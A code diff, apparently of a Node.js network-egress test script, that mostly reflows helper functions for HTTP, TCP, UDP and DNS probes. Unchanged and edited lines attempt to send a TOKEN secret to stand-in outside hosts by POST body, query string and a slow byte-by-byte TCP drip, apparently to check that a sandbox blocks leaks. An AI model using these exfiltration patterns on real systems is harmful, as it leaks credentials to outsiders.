@@ -12,9 +12,14 @@ const { HOST_PORT, TOKEN } = process.env;
 const http = (host, { port = 80, as = host, method = 'GET', path = '/', headers = {}, body = '' } = {}) =>
   new Promise((resolve) => {
     const outgoing = request({ host, port, method, path, agent: false, headers: { host: as, ...headers } }, (response) => {
-      response.resume().on('end', () => resolve(response.statusCode)).on('error', (error) => resolve(error.code));
+      response
+        .resume()
+        .on('end', () => resolve(response.statusCode))
+        .on('error', (error) => resolve(error.code));
     });
-    outgoing.on('error', (error) => resolve(error.code ?? error.message)).setTimeout(3000, () => outgoing.destroy(new Error('timeout')));
+    outgoing
+      .on('error', (error) => resolve(error.code ?? error.message))
+      .setTimeout(3000, () => outgoing.destroy(new Error('timeout')));
     outgoing.end(body);
   });
 const tcp = (host, port, pieces = [], everyMs = 0) =>
@@ -41,7 +46,9 @@ const tls = (host, servername) =>
   });
 const udp = (ip, port) =>
   new Promise((resolve) => {
-    const socket = createSocket('udp4').on('error', (error) => resolve(error.code)).on('message', () => resolve('answered'));
+    const socket = createSocket('udp4')
+      .on('error', (error) => resolve(error.code))
+      .on('message', () => resolve('answered'));
     socket.connect(port, ip, (error) => {
       if (error) return resolve(error.code);
       socket.send('x', (failed) => (failed ? resolve(failed.code) : setTimeout(() => (resolve('silence'), socket.close()), 300)));
@@ -56,7 +63,11 @@ const ask = (name, type) =>
     socket.send(query, 53, '127.0.0.53');
     setTimeout(() => resolve('silence'), 2000).unref();
   });
-const name = (host) => lookup(host).then(({ address }) => address, (error) => error.code);
+const name = (host) =>
+  lookup(host).then(
+    ({ address }) => address,
+    (error) => error.code,
+  );
 const perl = (code) => {
   const { status, stdout } = spawnSync('perl', ['-e', code], { encoding: 'utf8' });
   return stdout || `status ${status}`;
@@ -88,7 +99,7 @@ seen.tunnel = await Promise.all(
 ).then((codes) => [...new Set(codes)]);
 seen.body = await http('api.outside.test', { method: 'POST', body: `{"k":"${TOKEN}"}` });
 seen.query = await http('api.outside.test', { path: `/?k=${TOKEN}` });
-seen.drip = await tcp('203.0.113.7', 5432, [...` ${TOKEN} `], 10);
+seen.drip = await tcp('203.0.113.7', 5432, ` ${TOKEN} `.split(''), 10);
 seen.many = [];
 for (let i = 0; i < 8; i++) seen.many.push(await http(`h${i}.wild.test`));
 seen.upload = await http('api.outside.test', { method: 'POST', body: Buffer.alloc(300_000, 'x') });
